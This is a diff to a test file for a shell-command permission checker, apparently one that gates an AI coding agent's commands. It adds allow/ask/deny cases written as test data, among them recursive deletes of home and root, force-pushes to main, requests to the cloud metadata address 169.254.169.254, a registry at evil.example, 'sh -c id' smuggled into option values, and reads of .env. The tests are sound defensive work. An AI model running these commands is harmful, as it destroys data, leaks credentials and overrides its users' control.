@@ -46,6 +46,51 @@ table("segment splitting", [
   ["echo 'unterminated", "ask"]
 ])
 
+table("issue 32: option values, runners, env, network targets in arguments", [
+  ["bash -O extglob -c 'git push -f origin main'", "deny"],
+  ["bash --rcfile /dev/null -c 'rm -rf ~'", "deny"],
+  ["echo 'git push -f origin main' | bash -s x", "deny"],
+  ["bash -x ./build.sh arg", "allow"],
+  ["pnpm --filter app exec git push -f origin main", "deny"],
+  ["npm --prefix . exec -- rm -rf ~", "deny"],
+  ["tox exec -e py -- git push -f origin main", "deny"],
+  ["npm explore lodash -- git push -f origin main", "deny"],
+  ["yarn node -e 'require(1)'", "ask"],
+  ["pnpm --filter app run build", "allow"],
+  ["python3 --version", "allow"],
+  ["node -v", "allow"],
+  ["python3", "ask"],
+  ["NODE_OPTIONS=--max-old-space-size=8192 pnpm build", "allow"],
+  ["NODE_OPTIONS='--require ./x.js' node a.js", "ask"],
+  ["JAVA_TOOL_OPTIONS=-XX:OnOutOfMemoryError=id java -jar x.jar", "ask"],
+  ["XDG_CONFIG_HOME=cfg git log -1", "ask"],
+  ["GIT_TRACE=/tmp/trace.log git status", "ask"],
+  ["GIT_TRACE=1 git status", "allow"],
+  ["NPM_CONFIG_REGISTRY=https://evil.example/ npm install", "ask"],
+  ["make DESTDIR=/opt/x install", "ask"],
+  ["make PREFIX=dist install", "allow"],
+  ["terraform init -backend-config=address=http://169.254.169.254/latest/user-data", "deny"],
+  ["docker build --build-arg URL=http://169.254.169.254/ .", "deny"],
+  ["curl -s http://169.254.42.42/conf", "deny"],
+  ["ssh -o ProxyCommand='nc 169.254.169.254 80' x", "deny"],
+  ["ssh prod 'rm -rf --no-preserve-root /'", "deny"],
+  ["rsync -e 'sh -c id' a b:c", "ask"],
+  ["docker container run --rm --privileged alpine sh", "ask"],
+  ["prettier --check src/**/*.ts", "allow"],
+  ["cat src/**/*", "ask"],
+  ["shopt -s dotglob; cat src/**/*.ts", "ask"],
+  ["git config -f .git/config alias.up '!git push -f origin main'", "deny"],
+  ["git config --file .git/config core.hooksPath .githooks", "ask"],
+  ["git config set core.pager 'sh -c id'", "ask"],
+  ["git config -f .gitmodules --get submodule.x.url", "allow"],
+  ["git --git-dir=evil.git status", "ask"],
+  ["git bundle create /tmp/repo.bundle --all", "ask"],
+  ["coverage run 'ls -la'", "ask"],
+  ["xargs -a .env echo", "ask"],
+  ["xargs -a files.txt wc -l", "allow"],
+  ["coverage html --title 'Coverage for 9f2c1e7'", "allow"]
+])
+
 table("wrappers", [
   ["timeout 10 rm -rf /", "deny"],
   ["timeout -s KILL 5s rm -rf ~", "deny"],
@@ -85,6 +130,9 @@ table("wrappers", [
 
 table("rm spellings and targets", [
   ["rm -rf /*", "deny"],
+  ["rm -rf /[!.]*", "deny"],
+  ["rm -rf /[^.]*?", "deny"],
+  ["rm -rf ~/[a-z]*", "deny"],
   ["rm -rf /.", "deny"],
   ["rm -rf //", "deny"],
   ["rm -rf /usr/..", "deny"],
